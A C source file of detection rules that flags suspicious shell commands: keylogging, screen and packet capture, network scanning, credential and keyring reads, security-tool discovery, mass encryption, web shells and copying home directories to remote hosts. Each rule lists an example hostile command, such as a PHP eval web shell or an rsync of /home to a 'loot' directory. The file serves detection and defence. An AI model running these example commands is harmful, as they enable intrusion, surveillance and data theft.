/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Looking around and carrying away: what is typed, shown, said or sent is recorded, networks are searched, the machine
 * is taken stock of, data is packed so that nobody can look into it, and programs or files are given a false look.
 */
#include "inspect/shell/rule.h"

#include "base/str.h"

#include <ctype.h>
#include <string.h>

static bool collect_any(const struct shell_command *c, const char *words)
{
	for (size_t i = 1; i < c->n; i++)
		if (rule_is(words, c->argv[i].s))
			return true;
	return false;
}

static bool collect_screen(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (strcmp(c->name, "import") == 0)
		return rule_says(c, "root") || rule_has(c, "-window");
	if (strcmp(c->name, "ffmpeg") == 0)
		return collect_any(c, "x11grab v4l2 avfoundation gdigrab alsa pulse kmsgrab") ||
		       rule_says(c, "/dev/video");
	return !rule_has(c, "--help|--version|-l|-L|--list-devices");
}

static bool collect_clipboard(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (rule_is("xclip", c->name))
		return rule_has(c, "-o|-out");
	if (rule_is("xsel", c->name))
		return !c->has_in && !rule_has(c, "-i|--input|-c|--clear|-d|--delete");
	return true;
}

static bool collect_keys(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (rule_is("logkeys xspy", c->name))
		return !rule_has(c, "--help|--version|-h");
	if (rule_has(c, "--query"))
		return false;
	for (size_t i = 1; i < c->n; i++)
		if (strstr(c->argv[i].s, "/dev/input/") &&
		    !strstr(c->argv[i].s, "/dev/input/m")) /* mice, mouse0 */
			return true;
	for (size_t i = 0; i < c->n_redirects; i++)
		if (str_starts(c->redirects[i].target.s, "/dev/input/"))
			return true;
	return false;
}

/* 1-1000, or one try after the other */
static bool collect_ports(const struct shell_model *m, const struct shell_command *c)
{
	if (!rule_has(c, "-z"))
		return false;
	for (size_t i = 1; i < c->n; i++) {
		const char *dash = strchr(c->argv[i].s, '-');

		if (dash && dash > c->argv[i].s && isdigit((unsigned char)dash[1]) &&
		    strspn(c->argv[i].s, "0123456789-") == c->argv[i].len)
			return true;
	}
	/* Who waits for a service tries one port of his own machine again and again. */
	return (c->via & (VIA_LOOP | VIA_EACH)) && !rule_is_local(m, c);
}

static bool collect_sweep(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return (c->via & (VIA_LOOP | VIA_EACH)) && rule_has(c, "-c|-W|-w");
}

static bool collect_remote(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (rule_has(c, "--help|--version|-V"))
		return false;
	if (strcmp(c->name, "smbclient") == 0)
		return rule_has(c, "-L|--list");
	if (strcmp(c->name, "amass") == 0) /* otherwise it asks public lists only */
		return rule_has(c, "-active|-brute|-ip");
	if (rule_is("showmount nbtscan", c->name))
		return strpbrk(rule_operand(c, 0), "0123456789") && !rule_has(c, "-f");
	if (strcmp(c->name, "theHarvester") == 0)
		return collect_any(c, "all") || rule_has(c, "-c|--dns-brute");
	if (strcmp(c->name, "fping") == 0)
		return rule_has(c, "-g|--generate");
	return true;
}

/* What shows or undoes is no attack; a tunnel that carries a web page to a colleague is not either. */
static bool collect_cracks(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (strcmp(c->name, "stegsnow") == 0)
		return rule_has(c, "-m|-f");
	if (strcmp(c->name, "ngrok") == 0)
		return rule_is("tcp tls start", rule_operand(c, 0));
	/* shows a page of one's own for a while, as ngrok http does */
	if (strcmp(c->name, "cloudflared") == 0)
		return !rule_says(c, "http://localhost") && !rule_says(c, "http://127.0.0.1");
	return true;
}

static bool collect_setuid(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const modes[] = {"4000", "6000", "2000", "4755", "u=s",
					    "g=s",  "u+s",  "g+s",  "+s",   "ug=s"};

	(void)m;
	if (strcmp(c->name, "getcap") == 0)
		return rule_has(c, "-r");
	if (collect_any(c, "-writable -2 -o+w -o=w -0002 -222"))
		return rule_operands(m, c) & (PLACE(ROOT) | PLACE(TOP));
	if (strcmp(rule_operand(c, 0), ".") == 0) /* one's own files */
		return false;
	for (size_t i = 1; i + 1 < c->n; i++)
		for (size_t k = 0; k < sizeof(modes) / sizeof(modes[0]); k++)
			if (strcmp(c->argv[i].s, "-perm") == 0 &&
			    strstr(c->argv[i + 1].s, modes[k]))
				return true;
	return false;
}

/* Is it one of the many small questions that intruders ask first? */
static int collect_question(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const rows[] = {"whoami",
					   "id",
					   "uname",
					   "hostname",
					   "w who users last lastlog finger",
					   "netstat ss lsof",
					   "ifconfig ip arp route iwconfig",
					   "lsmod modinfo",
					   "getent",
					   "groups",
					   "sudo",
					   "crontab",
					   "mount findmnt lsblk",
					   "env printenv",
					   "ps pstree"};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		if (rule_is(rows[i], c->name)) {
			if (strcmp(c->name, "sudo") == 0 || strcmp(c->name, "crontab") == 0)
				return rule_has(c, "-l") ? (int)i : -1;
			return (int)i;
		}
	return rule_reads(m, c) & (PLACE(ACCOUNT) | PLACE(SUDOERS)) ? 30 : -1;
}

/* Reports once: at the first question, when four different ones are asked. */
static bool collect_stock(const struct shell_model *m, const struct shell_command *c)
{
	unsigned seen = 0;
	size_t asked = 0;

	if (collect_question(m, c) < 0 || m->n < 3)
		return false;
	for (size_t i = 0; i < m->n; i++) {
		int q = collect_question(m, &m->commands[i]);

		if (q >= 0 && seen == 0 && &m->commands[i] != c)
			return false;
		if (q >= 0)
			seen |= 1u << q, asked++;
	}
	return __builtin_popcount(seen) >= 4 || asked == m->n;
}

static bool collect_accounts(const struct shell_model *m, const struct shell_command *c)
{
	uint64_t place = rule_reads(m, c);

	if (place & PLACE(SUDOERS))
		return true;
	return (place & PLACE(ACCOUNT)) && rule_says(c, "passwd") && !rule_is("grep awk", c->name);
}

static bool collect_mail(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++)
		if (str_starts(c->argv[i].s, "/var/mail/") ||
		    str_starts(c->argv[i].s, "/var/spool/mail/"))
			return true;
	return false;
}

static bool collect_variables(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const words[] = {"token",  "secret",     "passw", "api_key",
					    "apikey", "credential", "aws_"};

	if (!c->has_in)
		return false;
	for (size_t i = 0; i < m->n; i++)
		if (m->commands[i].group == c->group &&
		    (rule_is("env printenv set export declare history ps", m->commands[i].name) ||
		     (rule_is("docker podman", m->commands[i].name) &&
		      rule_says(&m->commands[i], "inspect"))))
			for (size_t k = 0; k < sizeof(words) / sizeof(words[0]); k++)
				for (size_t a = 1; a < c->n; a++)
					if (strcasestr(c->argv[a].s, words[k]))
						return true;
	return false;
}

static bool collect_guards(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const words[] = {
		"falcon",   "crowdstrike", "carbonblack", "cbdaemon", "sentinelone",  "osquery",
		"wazuh",    "ossec",       "sophos",      "mcafee",   "symantec",     "mdatp",
		"auditd",   "sysmon",      "traps_pmd",   "cylance",  "qualys",       "falco",
		"suricata", "clamd",       "fail2ban",    "tripwire", "elastic-agent"};

	if (rule_is("grep egrep", c->name) && !c->has_in)
		return false;
	/* Who looks after a service looks at it; one question says nothing. */
	if (rule_is("systemctl service", c->name) && m->n == 1)
		return false;
	for (size_t k = 0; k < sizeof(words) / sizeof(words[0]); k++)
		for (size_t i = 1; i < c->n; i++)
			if (strcasestr(c->argv[i].s, words[k]) && !strchr(c->argv[i].s, '/'))
				return true;
	return false;
}

static bool collect_machine(const struct shell_model *m, const struct shell_command *c)
{
	if (rule_is("grep egrep", c->name))
		return c->has_in && (rule_says(c, "vmware") || rule_says(c, "virtualbox") ||
				     rule_says(c, "vbox") || rule_says(c, "parallels") ||
				     rule_says(c, "hypervisor"));
	return m->n > 1; /* whoever only asks, asks for himself */
}

/* A password for what is packed, or the originals are deleted. */
static bool collect_packed(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (strcmp(c->name, "zip") == 0)
		return rule_has(c, "-P|-e|--password|--encrypt");
	if (strcmp(c->name, "openssl") == 0)
		return (strcmp(rule_operand(c, 0), "enc") == 0 ||
			str_starts(rule_operand(c, 0), "aes-")) &&
		       !rule_has(c, "-d|-list|-ciphers") &&
		       collect_any(c, "-k -K -pass -kfile -in -out");
	if (rule_is("gpg gpg2", c->name))
		return rule_has(c, "-c|--symmetric") &&
		       rule_has(c, "--batch|--passphrase|--passphrase-fd|--yes");
	if (strcmp(rule_operand(c, 0), "a") != 0)
		return false;
	for (size_t i = 2; i < c->n; i++)
		if (str_starts(c->argv[i].s, "-p") || str_starts(c->argv[i].s, "-hp") ||
		    strcmp(c->argv[i].s, "-dw") == 0 || strcmp(c->argv[i].s, "-df") == 0 ||
		    strcmp(c->argv[i].s, "-sdel") == 0)
			return true;
	return false;
}

static bool collect_ransom(const struct shell_model *m, const struct shell_command *c)
{
	return (c->via & (VIA_EACH | VIA_LOOP)) &&
	       (collect_packed(m, c) ||
		(rule_is("gpg gpg2", c->name) && rule_has(c, "-c|--symmetric|-e|--encrypt")));
}

/* A whole home or the whole system in one file. */
static bool collect_home(const struct shell_model *m, const struct shell_command *c)
{
	uint64_t place = rule_operands(m, c);

	if (strcmp(c->name, "zip") != 0 && !rule_has(c, "-c|--create") &&
	    !(c->n > 1 && c->argv[1].s[0] != '-' && strchr(c->argv[1].s, 'c')))
		return false;
	if (place & (PLACE(HOME) | PLACE(ROOT)))
		return true;
	for (size_t i = 1; i < c->n; i++)
		if (str_starts(c->argv[i].s, "~/\001") && !c->argv[i].s[3])
			return true;
	return false;
}

static bool collect_is_temporary(const char *s)
{
	return str_starts(s, "/tmp/") || str_starts(s, "/var/tmp/") || str_starts(s, "/dev/shm/");
}

static const char *collect_base(const char *s)
{
	const char *slash = strrchr(s, '/');

	return slash ? slash + 1 : s;
}

/* A program in a place where everybody may put one: as root, in the background or with a hidden name. */
static bool collect_temporary(const struct shell_model *m, const struct shell_command *c)
{
	const char *s = c->n > 0 ? c->argv[0].s : "";

	(void)m;
	if (s[0] != '/' || !collect_is_temporary(s))
		return false;
	return (c->via & (VIA_ROOT | VIA_LATER | VIA_WRAPPED | VIA_HOOK)) ||
	       str_starts(s, "/dev/shm/") || collect_base(s)[0] == '.';
}

/* "...", "name ", a letter that cannot be seen */
static bool collect_is_veiled(const char *s)
{
	const char *base = collect_base(s);
	size_t n = strlen(s);

	if (strstr(s, "/.../") || strcmp(base, "...") == 0 || strcmp(base, ".. ") == 0 ||
	    (n > 1 && s[n - 1] == ' ' && strchr(s, '/')))
		return true;
	return strstr(s, "\xe2\x80\x8b") || strstr(s, "\xe2\x80\x8d") ||
	       strstr(s, "\xe2\x80\x8c") || strstr(s, "\xe2\x80\xae") ||
	       (collect_is_temporary(s) && base[0] == '.' && isalnum((unsigned char)base[1]));
}

static bool collect_veiled(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++)
		if (c->argv[i].s[0] != '-' && collect_is_veiled(c->argv[i].s))
			return true;
	return false;
}

static bool collect_masked(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const ends[] = {".png",  ".jpg", ".jpeg", ".gif", ".pdf", ".doc",
					   ".docx", ".mp3", ".mp4",  ".ico", ".svg", ".xls"};
	const char *file = rule_operand(c, 0);

	(void)m;
	if (rule_has(c, "-c|-e|-m"))
		return false;
	for (size_t i = 0; i < sizeof(ends) / sizeof(ends[0]); i++)
		if (str_ends(file, ends[i]))
			return true;
	return false;
}

static bool collect_disk(const struct shell_model *m, const struct shell_command *c)
{
	for (size_t i = 1; i < c->n; i++)
		if (str_starts(c->argv[i].s, "if=") &&
		    (place_of(m->context, c->argv[i].s + 3, c->cwd, false) & PLACE(DEVICE)))
			return true;
	return false;
}

static bool collect_store(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	if (strcmp(c->name, "secret-tool") == 0)
		return collect_any(c, "lookup search");
	if (strcmp(c->name, "keyctl") == 0)
		return collect_any(c, "read print pipe dump_link dump");
	if (rule_is("pass gopass lpass bw op", c->name))
		return rule_is("show get read item export", rule_operand(c, 0)) ||
		       (strcmp(c->name, "bw") == 0 && strcmp(rule_operand(c, 0), "list") == 0);
	return true;
}

/* http://192.0.2.1/x: nobody who publishes software does it from a bare address. */
static bool collect_bare(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++) {
		const char *p = strstr(c->argv[i].s, "://");
		size_t n;

		if (!p || p - c->argv[i].s > 6)
			continue;
		p += 3;
		n = strspn(p, "0123456789.");
		if (n >= 7 && (p[n] == '/' || p[n] == ':' || p[n] == '\0') &&
		    !str_starts(p, "127.") && !str_starts(p, "0.0.0.0") && p[n + (p[n] != '\0')] &&
		    (rule_has(c, "-o|-O|--output|--remote-name|--output-document") ||
		     strcmp(c->name, "wget") == 0))
			return true;
	}
	return false;
}

static bool collect_whole(const struct shell_model *m, const struct shell_command *c)
{
	const char *last = c->n > 2 ? c->argv[c->n - 1].s : "";
	const char *colon = strchr(last, ':');

	if (!colon || (strchr(last, '/') && strchr(last, '/') < colon))
		return false;
	for (size_t i = 1; i + 1 < c->n; i++)
		if (c->argv[i].s[0] != '-' &&
		    (rule_place(m, c, &c->argv[i]) &
		     (PLACE(HOME) | PLACE(ROOT) | PLACE(TOP) | PLACE(SECRET_DIR))))
			return true;
	return false;
}

/* A shell that nobody gave a script, a command or input to. */
static bool collect_bare_shell(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++)
		if (c->argv[i].s[0] != '-' || strcmp(c->argv[i].s, "-c") == 0 ||
		    strcmp(c->argv[i].s, "-s") == 0 || str_starts(c->argv[i].s, "--"))
			return false;
	return !c->has_in && !(c->via & (VIA_CONTAINER | VIA_REMOTE | VIA_FUNCTION)) &&
	       (m->n <= 2 || (c->via & (VIA_HOOK | VIA_SHELL | VIA_CODE)));
}

static bool collect_record(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return collect_any(c, "/bin/bash /bin/sh bash sh") || rule_says(c, "bash -i") ||
	       rule_says(c, "/tmp/.") || rule_says(c, "/dev/shm/") || rule_says(c, "/var/tmp/.");
}

/* while read ...; do kill $pid; done < <(ps ...) */
static bool collect_kill(const struct shell_model *m, const struct shell_command *c)
{
	if (!(c->via & VIA_LOOP) || collect_any(c, "-0 -l -L") || c->n < 2 ||
	    !(c->argv[c->n - 1].flags & (WORD_UNKNOWN | WORD_EXPANDED)))
		return false;
	for (size_t i = 0; i < m->n; i++)
		if (strcmp(m->commands[i].name, "ps") == 0)
			return true;
	return false;
}

static bool collect_php(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const acts[] = {"eval", "assert",   "include",    "require", "system",
					   "exec", "passthru", "shell_exec", "popen",   "`"};
	const char *p = NULL;

	(void)m;
	for (size_t i = 1; i < c->n && !p; i++)
		p = strcasestr(c->argv[i].s, "<?php") ? c->argv[i].s : NULL;
	if (!p && c->in.s && strcasestr(c->in.s, "<?php"))
		p = c->in.s;
	for (size_t k = 0; p && k < sizeof(acts) / sizeof(acts[0]); k++)
		if (strstr(p, acts[k]) && (strstr(p, "$_") || strchr(p, SHELL_UNKNOWN)))
			return true;
	return false;
}

static bool collect_hook(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s;

		if (i > 1 && rule_is("-c --cmd", c->argv[i - 1].s))
			s += *s == ':';
		else if (*s++ != ':')
			continue;
		if (str_starts(s, "py") || str_starts(s, "lua") || str_starts(s, "perl ") ||
		    str_starts(s, "ruby ") || str_starts(s, "call system") ||
		    str_starts(s, "redir") || str_starts(s, "tcl "))
			return true;
	}
	return false;
}

#define ROW(conf, lev) .type = FINDING_DANGEROUS_PATTERN, .level = THREAT_##lev, .confidence = conf

static const struct shell_rule collect_rows[] = {
	{.id = "CMD-CAPTURE-PACKETS",
	 .reason = "It records what others send over the network.",
	 ROW(0.4, LOW),
	 .programs = "tcpdump tshark dumpcap ngrep tcpflow snoop netsniff-ng",
	 .unless = "-r|-D|--version|-h|--help|--list-interfaces|-G",
	 .hit = "tcpdump -i eth0 -w out.pcap",
	 .miss = "tcpdump -r out.pcap"},
	{.id = "CMD-CAPTURE-HOOK",
	 .reason = "It runs another program for each file of recorded packets.",
	 ROW(0.5, MEDIUM),
	 .programs = "tcpdump",
	 .flags = "-z|-G",
	 .hit = "tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /tmp/x",
	 .miss = "tcpdump -r out.pcap"},
	{.id = "CMD-CAPTURE-SCREEN",
	 .reason = "It records the screen, a camera or a microphone.",
	 ROW(0.4, LOW),
	 .programs =
		 "scrot xwd gnome-screenshot import maim grim flameshot spectacle screencapture ksnip ffmpeg arecord parecord parec fswebcam streamer",
	 .test = collect_screen,
	 .hit = "ffmpeg -f x11grab -i :0 out.mp4",
	 .miss = "ffmpeg -i a.mp4 b.webm"},
	{.id = "CMD-CLIPBOARD",
	 .reason = "It reads the clipboard, where passwords often are.",
	 ROW(0.35, LOW),
	 .programs = "xclip xsel wl-paste pbpaste",
	 .test = collect_clipboard,
	 .hit = "xclip -selection clipboard -o",
	 .miss = "xclip -selection clipboard"},
	{.id = "CMD-KEYS",
	 .reason = "It records what is typed.",
	 ROW(0.5, MEDIUM),
	 .programs = "logkeys xspy evtest cat dd od xxd hexdump strings",
	 .test = collect_keys,
	 .hit = "cat /dev/input/event0",
	 .miss = "cat /dev/null"},
	{.id = "CMD-SCAN-PORTS",
	 .reason = "It tries one port after the other.",
	 ROW(0.4, LOW),
	 .programs = "nc ncat netcat nc.openbsd nc.traditional",
	 .test = collect_ports,
	 .hit = "nc -zv 192.0.2.1 1-1000",
	 .miss = "nc -zv localhost 5432"},
	{.id = "CMD-SCAN-HOSTS",
	 .reason = "It tries one host after the other.",
	 ROW(0.35, LOW),
	 .programs = "ping ping6",
	 .test = collect_sweep,
	 .hit = "for i in 1 2 3; do ping -c 1 192.0.2.$i; done",
	 .miss = "ping -c 1 192.0.2.1"},
	{.id = "CMD-SCAN-TOOL",
	 .reason = "It searches a network for machines, shares or weaknesses.",
	 ROW(0.4, LOW),
	 .programs =
		 "arp-scan nbtscan netdiscover fping unicornscan rustscan nping naabu p0f smbutil nmblookup onesixtyone snmpwalk snmp-check smbmap rpcclient showmount "
		 "smbclient nikto sqlmap gobuster dirb dirbuster feroxbuster ffuf wfuzz wpscan whatweb wafw00f amass "
		 "theHarvester dnsenum dnsrecon fierce nuclei legion sparta zaproxy wapiti joomscan commix xsser kube-hunter kubeletctl",
	 .test = collect_remote,
	 .hit = "gobuster dir -u http://victim.example -w words",
	 .miss = "smbclient //files.example/share"},
	{.id = "CMD-CRACK-TOOL",
	 .reason = "It guesses passwords, breaks into wireless networks or hides data in pictures.",
	 ROW(0.4, LOW),
	 .programs =
		 "hashcat john unshadow ophcrack crunch cewl aircrack-ng airodump-ng aireplay-ng airmon-ng reaver wifite kismet fcrackzip "
		 "rarcrack bruteforce-luks steghide stegsnow outguess stegcracker weevely searchsploit setoolkit proxychains proxychains4 "
		 "ngrok localtunnel lt cloudflared chntpw pdfcrack thc-hydra dnschef sslstrip",
	 .unless = "--help|--version|--example-hashes",
	 .test = collect_cracks,
	 .hit = "hashcat -m 0 hashes words",
	 .miss = "md5sum words"},
	{.id = "CMD-FIND-SETUID",
	 .reason = "It searches for programs that run with the rights of root.",
	 ROW(0.35, LOW),
	 .programs = "find getcap",
	 .test = collect_setuid,
	 .hit = "find / -perm -4000 -type f",
	 .miss = "find . -perm -644"},
	{.id = "CMD-TAKE-STOCK",
	 .reason = "It asks who and where it is in many ways, as intruders do first.",
	 ROW(0.4, LOW),
	 .programs =
		 "whoami id uname hostname w who users last lastlog finger netstat ss lsof ifconfig ip arp route iwconfig lsmod modinfo getent groups sudo crontab mount findmnt lsblk env printenv ps pstree cat",
	 .test = collect_stock,
	 .hit = "whoami; id; uname -a; netstat -tulpn",
	 .miss = "whoami; id"},
	{.id = "CMD-READ-ACCOUNTS",
	 .reason = "It shows the accounts of the machine or who may become root.",
	 ROW(0.35, LOW),
	 .programs = "cat less more head tail nl tac view bat strings od xxd base64 grep awk",
	 .test = collect_accounts,
	 .hit = "cat /etc/passwd",
	 .miss = "cat /etc/hosts"},
	{.id = "CMD-READ-MAIL",
	 .reason = "It reads or changes the mail of users.",
	 ROW(0.4, LOW),
	 .programs = "cat less more head tail cp mv grep tar rm sed",
	 .test = collect_mail,
	 .hit = "cat /var/mail/root",
	 .miss = "cat /var/log/mail.log"},
	{.id = "CMD-GREP-ENV",
	 .reason = "It searches the environment for credentials.",
	 ROW(0.35, LOW),
	 .programs = "grep egrep rg awk sed",
	 .test = collect_variables,
	 .hit = "env | grep -i token",
	 .miss = "env | grep PATH"},
	{.id = "CMD-FIND-GUARD",
	 .reason = "It looks whether a security tool is running.",
	 ROW(0.35, LOW),
	 .programs = "grep egrep pgrep pidof systemctl service",
	 .test = collect_guards,
	 .hit = "ps aux | grep -i crowdstrike",
	 .miss = "ps aux | grep nginx"},
	{.id = "CMD-FIND-MACHINE",
	 .reason = "It looks whether it runs in a virtual machine, as malware does.",
	 ROW(0.35, LOW),
	 .programs = "systemd-detect-virt virt-what imvirt grep egrep",
	 .unless = "--help|--version",
	 .test = collect_machine,
	 .hit = "dmidecode | grep -i vmware",
	 .miss = "grep -i vmware notes"},
	{.id = "CMD-PACK-LOCKED",
	 .reason = "It packs data with a password, or deletes what it has packed.",
	 ROW(0.35, LOW),
	 .programs = "zip 7z 7za 7zr rar openssl gpg gpg2",
	 .test = collect_packed,
	 .hit = "7z a -psecret x.7z docs",
	 .miss = "7z a x.7z docs"},
	{.id = "CMD-PACK-HOME",
	 .reason = "It packs a whole home or the whole system into one file.",
	 ROW(0.35, LOW),
	 .programs = "tar zip bsdtar gtar",
	 .test = collect_home,
	 .hit = "tar czf x.tgz ~",
	 .miss = "tar czf x.tgz ~/notes"},
	{.id = "CMD-ENCRYPT-EACH",
	 .reason = "It encrypts one file after the other.",
	 ROW(0.6, MEDIUM),
	 .programs = "zip 7z 7za 7zr rar openssl gpg gpg2",
	 .test = collect_ransom,
	 .hit = "for f in *; do openssl enc -aes-256-cbc -in $f -out $f.enc -k x; done",
	 .miss = "openssl enc -aes-256-cbc -in a -out b"},
	{.id = "CMD-RUN-TEMPORARY",
	 .reason = "It runs a program from a place where everybody may put one.",
	 ROW(0.4, LOW),
	 .test = collect_temporary,
	 .hit = "sudo /tmp/x",
	 .miss = "/tmp/x"},
	{.id = "CMD-NAME-VEILED",
	 .reason = "The name of a file is made to be overlooked.",
	 ROW(0.35, LOW),
	 .programs = "mkdir mv cp touch ln install tee",
	 .test = collect_veiled,
	 .hit = "mkdir /tmp/.x",
	 .miss = "mkdir .github"},
	{.id = "CMD-SCRIPT-MASKED",
	 .reason = "It runs code from a file that looks like a picture or a document.",
	 ROW(0.4, LOW),
	 .programs = "sh bash dash zsh ksh python python3 perl ruby php node",
	 .test = collect_masked,
	 .hit = "sh /tmp/image.png",
	 .miss = "python3 view.py image.png"},
	{.id = "CMD-COPY-DISK",
	 .reason = "It reads a disk past the file system.",
	 ROW(0.35, LOW),
	 .programs = "dd dcfldd",
	 .test = collect_disk,
	 .hit = "dd if=/dev/sda of=disk.img",
	 .miss = "dd if=a.img of=b.img"},
	{.id = "CMD-TRACE",
	 .reason = "It watches another process, with all that it reads and writes.",
	 ROW(0.35, LOW),
	 .programs = "strace ltrace",
	 .flags = "-p|--attach",
	 .hit = "strace -p 1234",
	 .miss = "strace ls"},
	{.id = "CMD-READ-KEYRING",
	 .reason = "It reads what a keyring or a directory service keeps.",
	 ROW(0.4, LOW),
	 .programs = "secret-tool keyctl kwallet-query tdbdump ldbsearch pass gopass lpass bw op",
	 .unless = "--help|--version",
	 .test = collect_store,
	 .hit = "secret-tool search service x",
	 .miss = "secret-tool store --label=x service x"},
	{.id = "CMD-DOWNLOAD-BARE",
	 .reason = "It downloads a file from a bare address.",
	 ROW(0.35, LOW),
	 .programs = "curl wget",
	 .test = collect_bare,
	 .hit = "curl -o a http://192.0.2.1/a",
	 .miss = "curl http://127.0.0.1:8080/a -o a"},
	{.id = "CMD-SEND-WHOLE",
	 .reason = "It copies a whole home or system directory to another machine.",
	 ROW(0.5, MEDIUM),
	 .programs = "scp rsync",
	 .test = collect_whole,
	 .hit = "rsync -a /home/ u@192.0.2.1:/loot",
	 .miss = "rsync -a src/ u@192.0.2.1:/srv"},
	{.id = "CMD-SOCKS",
	 .reason = "It makes another machine a way into or out of this network.",
	 ROW(0.35, LOW),
	 .programs = "ssh",
	 .flags = "-D",
	 .hit = "ssh -D 1080 u@192.0.2.1",
	 .miss = "ssh u@192.0.2.1"},
	{.id = "CMD-SHELL-BARE",
	 .reason = "It opens a shell, and what is typed into it is seen by nobody.",
	 ROW(0.35, LOW),
	 .programs = "sh bash dash ash zsh ksh mksh csh tcsh fish rc elvish rbash yash",
	 .test = collect_bare_shell,
	 .hit = "dash",
	 .miss = "sh run.sh"},
	{.id = "CMD-SHELL-RECORD",
	 .reason = "It gives a shell a terminal that it does not have.",
	 ROW(0.4, LOW),
	 .programs = "script",
	 .test = collect_record,
	 .hit = "script -qc /bin/bash /dev/null",
	 .miss = "script -qc 'make test' log"},
	{.id = "CMD-KILL-EACH",
	 .reason = "It kills one process after the other that a listing showed.",
	 ROW(0.4, MEDIUM),
	 .programs = "kill",
	 .test = collect_kill,
	 .hit = "ps -eo pid | while read p; do kill -9 $p; done",
	 .miss = "kill -9 $pid"},
	{.id = "CMD-WEB-SHELL",
	 .reason = "It writes a page that runs what visitors send.",
	 ROW(0.6, MEDIUM),
	 .programs = "echo printf cat tee",
	 .test = collect_php,
	 .hit = "echo '<?php eval($_POST[1]);?>' > a.php",
	 .miss = "echo '<?php phpinfo();?>' > a.php"},
	{.id = "CMD-EDITOR-CODE",
	 .reason = "It makes an editor run code.",
	 ROW(0.35, LOW),
	 .programs = "vi vim nvim view rvim rview vimdiff gvim",
	 .test = collect_hook,
	 .hit = "vim -c ':py import os'",
	 .miss = "vim -c ':set number' a"},
	{.id = "CMD-LOG-CLEAR",
	 .reason = "It clears the messages of the kernel.",
	 ROW(0.4, LOW),
	 .programs = "dmesg",
	 .flags = "-c|-C|--clear|--read-clear",
	 .hit = "dmesg -c",
	 .miss = "dmesg -T"},
	{.id = "CMD-BAN-SET",
	 .reason = "It changes what is done against attackers.",
	 ROW(0.5, MEDIUM),
	 .programs = "fail2ban-client",
	 .words = "set|add|stop|unban|delignoreip|addignoreip|start|restart|reload",
	 .hit = "fail2ban-client set sshd unbanip 192.0.2.1",
	 .miss = "fail2ban-client status"},
	{.id = "CMD-HASH-PASSWORD",
	 .reason = "It makes a password hash, as for a hidden account.",
	 ROW(0.35, LOW),
	 .programs = "openssl",
	 .words = "passwd",
	 .hit = "openssl passwd -1 -salt x y",
	 .miss = "openssl version"},
};

const struct shell_rules shell_rules_collect = {collect_rows,
						sizeof(collect_rows) / sizeof(collect_rows[0])};
